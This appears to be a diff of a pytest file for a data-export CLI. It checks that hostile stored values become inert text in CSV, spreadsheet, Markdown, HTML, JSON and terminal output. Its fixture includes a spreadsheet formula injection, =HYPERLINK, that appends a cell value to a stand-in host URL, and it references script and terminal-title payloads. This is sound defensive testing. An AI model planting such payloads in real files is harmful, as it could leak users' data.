@@ -29,7 +29,7 @@ from opttius_cli.render.registry import RENDERERS
 if TYPE_CHECKING:
     from collections.abc import Callable
 
-    from cli.running import Ran
+    from cli.run_program import RunResult
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://x.example/?"&A1,"a")',
@@ -62,9 +62,9 @@ HOSTILE = {
 
 OWN_PALETTE = re.compile(r"\x1b\[[0-9;]*m")
 ORGANIZATION = str(uuid5(NAMESPACE_OID, "organization"))
-ASKED = ("-O", ORGANIZATION, "--as-of", "2026-11-22", "--lang", "en", "-p", "2026")
+SCOPE = ("-O", ORGANIZATION, "--as-of", "2026-11-22", "--lang", "en", "-p", "2026")
 WHOLE = ("--reveal-pii", "--reason", "a test")
-KEPT = {"currency", "metadata", "features", "role"}
+UNTOUCHED = {"currency", "metadata", "features", "role"}
 """Texts that decide how rows are read: whose hostile values have tests of their own."""
 CUSTOMER = str(uuid5(NAMESPACE_OID, "customers0"))
 
@@ -81,7 +81,7 @@ def _value(table: str, column: Any, number: int, hostile: str) -> Any:
         return (
             str(uuid5(NAMESPACE_OID, f"{target}{0 if name == 'branch_id' else number}")) if target else None
         )
-    if name in KEPT:
+    if name in UNTOUCHED:
         return "CLP" if name == "currency" else None
     if name == "payment_status":
         return "paid"
@@ -126,7 +126,7 @@ def source(tmp_path_factory: pytest.TempPathFactory) -> Path:
 
 
 @pytest.fixture(autouse=True)
-def _one_snapshot(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
+def _single_snapshot(tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("OPTTIUS_CACHE_DIR", str(tmp_path_factory.getbasetemp() / "hostile-cache"))
 
 
@@ -148,28 +148,28 @@ _answers: dict[tuple[str, ...], Written] = {}
 
 
 @pytest.fixture
-def written(run: Callable[..., Ran], source: Path) -> Callable[..., Written]:
+def written(run: Callable[..., RunResult], source: Path) -> Callable[..., Written]:
     """Each command's answer in a format, whole: its file, and what was said beside it. Worked out once."""
 
     def all_of(form: str, *more: str) -> Written:
-        found = _answers.setdefault((form, *more), {})
-        for command in COMMANDS if not found else ():
+        outputs = _answers.setdefault((form, *more), {})
+        for command in COMMANDS if not outputs else ():
             file = Path(f"answer.{RENDERERS[form].extension}")
-            ran = run(*command, "-s", source, *ASKED, *WHOLE, "-f", form, "-o", file, "--force", *more)
+            ran = run(*command, "-s", source, *SCOPE, *WHOLE, "-f", form, "-o", file, "--force", *more)
             assert ran.code == 0, (command, ran.err)
-            found[" ".join(command[: 2 if command[0] == "export" else 1])] = (file.read_bytes(), ran.err)
-        return found
+            outputs[" ".join(command[: 2 if command[0] == "export" else 1])] = (file.read_bytes(), ran.err)
+        return outputs
 
     return all_of
 
 
-def test_the_data_is_hostile(run: Callable[..., Ran], source: Path) -> None:
+def test_the_data_is_hostile(run: Callable[..., RunResult], source: Path) -> None:
     ran = run("load", "-s", source, "-f", "json")
     assert ran.code == 0, ran.err
     rows = {row["table_name"]: row for row in json.loads(ran.out)["rows"]}
     assert rows["customers"]["rows_read"] == len(HOSTILE)
-    told = ("customers", "orders", "lab_work_orders", "quotes", "appointments", "order_items", "products")
-    assert [rows[name]["refused"] for name in told] == [0] * len(told)
+    tables = ("customers", "orders", "lab_work_orders", "quotes", "appointments", "order_items", "products")
+    assert [rows[name]["refused"] for name in tables] == [0] * len(tables)
 
 
 def plain(text: str) -> str:
@@ -182,30 +182,32 @@ def acting(text: str, *allowed: str) -> set[str]:
     return {sign for sign in set(text) - {"\n", "\u00a0", "\u202f", *allowed} if not sign.isprintable()}
 
 
-def test_a_tier_that_acts_is_told_harmless(run: Callable[..., Ran], source: Path, tmp_path: Path) -> None:
+def test_a_hostile_tier_is_shown_harmless(
+    run: Callable[..., RunResult], source: Path, tmp_path: Path
+) -> None:
     folder = tmp_path / "other"
     shutil.copytree(source, folder)
     table = pq.read_table(folder / "organizations.parquet")
     place = table.column_names.index("subscription_tier")
-    told = pa.array([HOSTILE["title"] + HOSTILE["script"]])
-    pq.write_table(table.set_column(place, "subscription_tier", told), folder / "organizations.parquet")
-    refused = run("dashboard", "-s", folder, *ASKED)
+    tiers = pa.array([HOSTILE["title"] + HOSTILE["script"]])
+    pq.write_table(table.set_column(place, "subscription_tier", tiers), folder / "organizations.parquet")
+    refused = run("dashboard", "-s", folder, *SCOPE)
     assert (refused.code, acting(refused.err)) == (5, set())
     assert "owned x<script>" in refused.err.replace("\ufffd", "").replace("]0;", "")
 
 
 @pytest.mark.parametrize("form", ["table", "md", "json"])
 def test_a_terminal_has_nothing_to_obey(
-    run: Callable[..., Ran], source: Path, form: str, written: Callable[..., Written]
+    run: Callable[..., RunResult], source: Path, form: str, written: Callable[..., Written]
 ) -> None:
-    shown = run("customers", "-s", source, *ASKED, *WHOLE, "-f", form)
+    shown = run("customers", "-s", source, *SCOPE, *WHOLE, "-f", form)
     assert (shown.code, acting(shown.out), acting(shown.err)) == (0, set(), set())
-    for name, (data, said) in written(form).items():
-        assert (acting(data.decode()), acting(said)) == (set(), set()), name
+    for name, (data, stderr) in written(form).items():
+        assert (acting(data.decode()), acting(stderr)) == (set(), set()), name
 
 
-def test_json_says_what_is_stored(written: Callable[..., Written]) -> None:
-    answers = {name: json.loads(data) for name, (data, _said) in written("json").items()}
+def test_json_holds_the_stored_values(written: Callable[..., Written]) -> None:
+    answers = {name: json.loads(data) for name, (data, _stderr) in written("json").items()}
     products = {row["product"] for row in answers["export top-products"]["rows"]}
     assert products >= {value for value in HOSTILE.values() if value.strip() == value}
     assert {row["rut"] for row in answers["customers"]["rows"]} == set(HOSTILE.values())
@@ -214,15 +216,15 @@ def test_json_says_what_is_stored(written: Callable[..., Written]) -> None:
     assert set(answers["dashboard"]["quotes"]["by_status"]) == set(HOSTILE.values())
 
 
-def test_parquet_holds_what_is_stored(written: Callable[..., Written]) -> None:
-    tables = {name: pq.read_table(io.BytesIO(data)) for name, (data, _said) in written("parquet").items()}
+def test_parquet_holds_the_stored_values(written: Callable[..., Written]) -> None:
+    tables = {name: pq.read_table(io.BytesIO(data)) for name, (data, _stderr) in written("parquet").items()}
     assert set(tables["customers"].column("rut").to_pylist()) == set(HOSTILE.values())
 
 
 @pytest.mark.parametrize("dialect", ["plain", "excel-es"])
 def test_csv_cells_are_texts(written: Callable[..., Written], dialect: str) -> None:
     csv.field_size_limit(10_000_000)
-    for name, (data, _said) in written("csv", "--csv-dialect", dialect).items():
+    for name, (data, _stderr) in written("csv", "--csv-dialect", dialect).items():
         delimiter = ";" if dialect == "excel-es" else ","
         text = data.decode("utf-8-sig")
         rows = list(csv.reader(io.StringIO(text.replace("\x00", "\u2400"), newline=""), delimiter=delimiter))
@@ -231,18 +233,20 @@ def test_csv_cells_are_texts(written: Callable[..., Written], dialect: str) -> N
             assert not re.match(r"[\s\x00]*[=+\-@\uff1d](?![\d.,]*$)|[\t\r]", cell), (name, cell[:40])
         if name == "customers":
             place = rows[0].index("rut")
-            found = {row[place].removeprefix("'").replace("\u2400", "\x00") for row in rows[1:]}
-            assert found == set(HOSTILE.values())
+            cells = {row[place].removeprefix("'").replace("\u2400", "\x00") for row in rows[1:]}
+            assert cells == set(HOSTILE.values())
 
 
 def test_a_workbook_runs_nothing(written: Callable[..., Written]) -> None:
-    for name, (data, _said) in written("xlsx").items():
+    for name, (data, _stderr) in written("xlsx").items():
         book = openpyxl.load_workbook(io.BytesIO(data))
         cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
         formulas = {str(cell.value) for cell in cells if cell.data_type == "f"}
         # A total is the program's own, and names nothing but a column of its table.
         assert not {
-            one for one in formulas if not re.fullmatch(r"=SUBTOTAL\(109,\w+\[[^=]{1,40}\]\)", one)
+            formula
+            for formula in formulas
+            if not re.fullmatch(r"=SUBTOTAL\(109,\w+\[[^=]{1,40}\]\)", formula)
         }, name
         assert not [cell.coordinate for cell in cells if cell.hyperlink], name
         with zipfile.ZipFile(io.BytesIO(data)) as packed:
@@ -251,14 +255,14 @@ def test_a_workbook_runs_nothing(written: Callable[..., Written]) -> None:
         if name == "customers":
             texts = {cell.value for cell in cells if isinstance(cell.value, str)}
             for key, value in HOSTILE.items():
-                kept = re.sub(r"[\x00-\x08\x0b-\x1f]", "", value.replace("\r\n", "\n").replace("\r", "\n"))
-                assert (kept in texts) or (
+                cleaned = re.sub(r"[\x00-\x08\x0b-\x1f]", "", value.replace("\r\n", "\n").replace("\r", "\n"))
+                assert (cleaned in texts) or (
                     key == "long" and any(text.startswith("L" * 30_000) for text in texts)
                 ), key
 
 
 def test_markdown_is_text(written: Callable[..., Written]) -> None:
-    for name, (data, _said) in written("md").items():
+    for name, (data, _stderr) in written("md").items():
         text = data.decode()
         assert "<" not in text.replace("&lt;", ""), name
         assert not re.search(r"(?<!\\)\]\(", text), name
@@ -284,7 +288,7 @@ class Page(HTMLParser):
 
 @pytest.mark.skipif("html" not in RENDERERS, reason="there are no pages yet")
 def test_a_page_runs_nothing(written: Callable[..., Written]) -> None:
-    for name, (data, _said) in written("html").items():
+    for name, (data, _stderr) in written("html").items():
         text = data.decode()
         page = Page()
         page.feed(text)
@@ -297,7 +301,7 @@ def test_a_page_runs_nothing(written: Callable[..., Written]) -> None:
 MEGABYTE = "ñ" * 1_000_000
 
 
-def test_a_megabyte_is_a_value_like_any_other(run: Callable[..., Ran], tmp_path: Path) -> None:
+def test_a_megabyte_is_a_value_like_any_other(run: Callable[..., RunResult], tmp_path: Path) -> None:
     """In one cell, in every format; a workbook holds as much of it as its cells can."""
     folder = tmp_path / "long"
     folder.mkdir()
@@ -311,7 +315,7 @@ def test_a_megabyte_is_a_value_like_any_other(run: Callable[..., Ran], tmp_path:
     (folder / "orders.csv").write_text("id,status,payment_status,total_amount,created_at\n")
     for form in RENDERERS:
         file = Path(f"long.{RENDERERS[form].extension}")
-        ran = run("customers", "-s", folder, *ASKED[2:], *WHOLE, "-f", form, "-o", file)
+        ran = run("customers", "-s", folder, *SCOPE[2:], *WHOLE, "-f", form, "-o", file)
         assert ran.code == 0, ran.err
         data = file.read_bytes()
         if form in {"json", "csv", "md", "html", "table"}:
@@ -324,12 +328,12 @@ def test_a_megabyte_is_a_value_like_any_other(run: Callable[..., Ran], tmp_path:
                 for cell in row
             ]
             assert any(isinstance(text, str) and text.startswith("ñ" * 32_000) for text in texts)
-    assert run("check", "-s", folder, *ASKED[2:]).code == 0
+    assert run("check", "-s", folder, *SCOPE[2:]).code == 0
 
 
 def test_colours_are_the_programs_own(source: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     """On a terminal, with colour: the only escape sequences are those of the program's own palette."""
-    out = on_terminal("customers", "-s", str(source), *ASKED, *WHOLE)
+    out = on_terminal("customers", "-s", str(source), *SCOPE, *WHOLE)
     assert "\x1b[" in out, "there is colour, else the test would see nothing"
     assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202e\u2066]", plain(out))
 
